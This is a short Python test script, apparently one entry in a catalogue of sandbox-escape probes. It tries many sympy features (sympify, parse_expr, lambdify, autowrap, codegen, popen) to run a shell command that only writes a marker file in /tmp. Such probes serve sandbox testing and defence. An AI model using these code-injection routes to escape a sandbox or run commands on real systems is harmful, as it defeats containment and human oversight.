# escape: 312
# packages: sympy
# technique: sympy evaluates texts, writes and compiles code, and starts programs
# family: deval
# goal: run-command
# first-seen: sympify, lambdify, autowrap, preview, codegen
import sympy, os
from sympy import symbols, sympify, lambdify
x = symbols("x")
touch = "__import__('os').system('echo > /tmp/escape-312')"
def go(f):
    try: f()
    except BaseException: pass
go(lambda: sympify(touch))
go(lambda: sympy.parsing.sympy_parser.parse_expr(touch, global_dict={"__builtins__": __builtins__}))
go(lambda: lambdify(x, x, modules=[{"os": os}, "os"], printer=None)(1))
go(lambda: lambdify([], touch)())
def wrap():
    from sympy.utilities.autowrap import autowrap
    autowrap(x + 1, backend="cython", tempdir="/tmp/escape-312")
go(wrap)
def codegen():
    from sympy.utilities.codegen import codegen
    codegen(("f", x), "C99", "/tmp/escape-312", to_files=True)
go(codegen)
go(lambda: sympy.preview(x, viewer="file", filename="/tmp/escape-312"))
go(lambda: sympy.external.import_module("os", import_kwargs={"fromlist": ["system"]}).system("echo > /tmp/escape-312"))
go(lambda: sympy.test())
go(lambda: sympy.utilities.misc.os.popen("echo > /tmp/escape-312").read())
